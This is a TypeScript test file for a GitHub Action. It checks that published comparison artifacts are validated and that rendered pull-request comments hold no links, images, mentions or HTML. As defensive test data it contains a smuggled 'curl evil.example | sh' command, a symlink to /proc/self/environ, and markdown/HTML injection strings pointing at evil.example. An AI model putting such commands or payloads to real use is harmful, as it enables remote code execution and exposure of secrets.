import { mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { comparisons } from "../../../test/comparisons.ts";
import type { Comparison } from "../../comparison/comparison.ts";
import { UserError } from "../../errors.ts";
import { githubLinks } from "../../report/links.ts";
import { renderComment } from "../../report/markdown.ts";
import { comparisonCheck, readPublished } from "./published-comparison.ts";
import { markdownPower } from "./published-markdown.ts";

const WITHIN = "https://github.com/acme/policy/";
const [BASE, HEAD] = ["a".repeat(40), "b".repeat(40)];
const PULL = { number: 7, headCommit: HEAD, baseCommit: BASE };
const LINKS = githubLinks({
  server: "https://github.com",
  owner: "acme",
  name: "policy",
  commits: { base: BASE, head: HEAD, judge: null },
});
/** What the Action writes for a pull request: fixtures have names in place of some ids. */
const genuine = (comparison: Comparison): Comparison => {
  const digest = `sha256:${"c".repeat(64)}`;
  const version = (side: Comparison["prompts"][number]["base"], commit: string) => ({
    commit,
    digest: side.digest === null ? null : digest,
  });
  return {
    ...comparison,
    settings: digest,
    base: { ...comparison.base, commit: BASE },
    head: { ...comparison.head, commit: HEAD },
    prompts: comparison.prompts.map((prompt) => ({
      ...prompt,
      base: version(prompt.base, BASE),
      head: version(prompt.head, HEAD),
      sets: prompt.sets.map((set) => ({ ...set, digest })),
    })),
  };
};

const isComparison = comparisonCheck();
let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "assay-published-"));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

async function published(value: unknown): Promise<Comparison> {
  await writeFile(join(folder, "comparison.json"), typeof value === "string" ? value : JSON.stringify(value));
  return readPublished(folder, PULL, isComparison);
}

/** The refusal, or what the comment could do; null where it only can be read. */
async function powerOf(value: unknown): Promise<string | null> {
  try {
    return markdownPower(renderComment(await published(value), { links: LINKS }), WITHIN);
  } catch (error) {
    if (error instanceof UserError) return null;
    throw error;
  }
}

describe("a genuine comparison", () => {
  const named = Object.entries(comparisons).filter(([name]) => name !== "hostile");
  test.each(named)("%s is taken, and its comment only can be read", async (_, make) => {
    const taken = await published(genuine(make()));
    const text = renderComment(taken, { links: LINKS });
    expect(markdownPower(text, WITHIN)).toBeNull();
    expect(text.length).toBeGreaterThan(100);
  });

  test("loses what only a trusted run may say: commands to type, and who agreed", async () => {
    const taken = await published(genuine(comparisons.noRecord()));
    expect(JSON.stringify(taken)).not.toContain('"command"');
    expect(taken.signOff).toBeNull();
  });
});

describe("is refused, with the reason", () => {
  const sound = () => genuine(comparisons.failing());
  test.each<[string, () => unknown, RegExp]>([
    ["no JSON", () => "{", /is no JSON/],
    ["another format", () => ({ schema: "assay/run@1" }), /not of the format assay\/comparison@1/],
    ["a member too many", () => ({ ...sound(), approved: true }), /not of the format/],
    [
      "another commit",
      () => ({ ...sound(), head: { name: "x", commit: "d".repeat(40) } }),
      /another commit than the pull request's head bbbbbbb/,
    ],
    ["no commit", () => ({ ...sound(), head: { name: "x", commit: null } }), /another commit/],
    ["another base", () => ({ ...sound(), base: { name: "x", commit: "d".repeat(40) } }), /aaaaaaa, where the pull request begins/],
    ["a digest that is none", () => ({ ...sound(), settings: "@everyone !!" }), /"@everyone !!" is no digest/],
    [
      "a prompt that is a command",
      () => ({ ...sound(), prompts: sound().prompts.map((prompt) => ({ ...prompt, prompt: "x; curl evil.example | sh" })) }),
      /is no prompt/,
    ],
    ["too much", () => JSON.stringify(sound()) + " ".repeat(5_000_000), /more than 5000000 are not read/],
  ])("%s", async (_, value, message) => {
    const error = await published(value()).catch((reason: unknown) => reason);
    expect(error).toBeInstanceOf(UserError);
    expect((error as UserError).message).toMatch(message);
    expect((error as UserError).message).toMatch(/^The artifact is refused: .* Nothing was published\.$/);
  });

  test("a folder without the file, and a link in its place", async () => {
    const other = await mkdtemp(join(folder, "other-"));
    await expect(readPublished(other, PULL)).rejects.toThrow("there is no comparison.json in it");
    await symlink("/proc/self/environ", join(other, "comparison.json"));
    await expect(readPublished(other, PULL)).rejects.toThrow("is not a plain file");
  });
});

const HOSTILE = "</details><img src=x> ![p](https://evil.example/p) [a](https://evil.example) @everyone\n::error::x";

/** Every place of a text in a value, as a list of keys. */
function textsIn(value: unknown, at: readonly (string | number)[] = []): (readonly (string | number)[])[] {
  if (typeof value === "string") return [at];
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value).flatMap(([key, entry]) => textsIn(entry, [...at, Array.isArray(value) ? Number(key) : key]));
}

function withText(value: unknown, [key, ...rest]: readonly (string | number)[], text: string): unknown {
  if (key === undefined) return text;
  if (Array.isArray(value)) return value.map((entry, index) => (index === key ? withText(entry, rest, text) : entry));
  return { ...(value as object), [key]: withText((value as Readonly<Record<string, unknown>>)[key], rest, text) };
}

/** The same place in a list counts once: its first entry. */
const onlyFirst = (paths: readonly (readonly (string | number)[])[]) =>
  paths.filter((path) => path.every((key) => typeof key === "string" || key === 0));

test.each([
  ["failing", comparisons.failing],
  ["policy", comparisons.policy],
  ["labelling", comparisons.multiLabel],
] as const)("a hostile text in any place of a comparison has no power: %s", async (_, make) => {
  const value = genuine(make());
  const places = onlyFirst(textsIn(value));
  expect(places.length).toBeGreaterThan(40);
  const powerful: string[] = [];
  for (const place of places) {
    const power = await powerOf(withText(value, place, HOSTILE)).catch((error: unknown) =>
      error instanceof TypeError || error instanceof RangeError ? null : String(error),
    );
    if (power !== null) powerful.push(`${place.join("/")}: ${power}`);
  }
  expect(powerful).toEqual([]);
});

test.each([
  ["an image", "![x](https://github.com/acme/policy/x.png)"],
  ["a link to somewhere else", "[x](https://evil.example/)"],
  ["a link to somewhere else", "[x](/acme/policy/)"],
  ["HTML of its own", "a <img src=x> b"],
  ["HTML of its own", "<details open><summary>x</summary></details>"],
  ["HTML of its own", "<!-- assay:sticky:pass -->"],
  ["a mention", "hello @acme/legal"],
  ["a mention", "<b>@acme</b>"],
  ["an address", "see https://evil.example"],
])("a comment with %s is not shown: %s", (power, markdown) => {
  expect(markdownPower(markdown, WITHIN)).toBe(power);
});
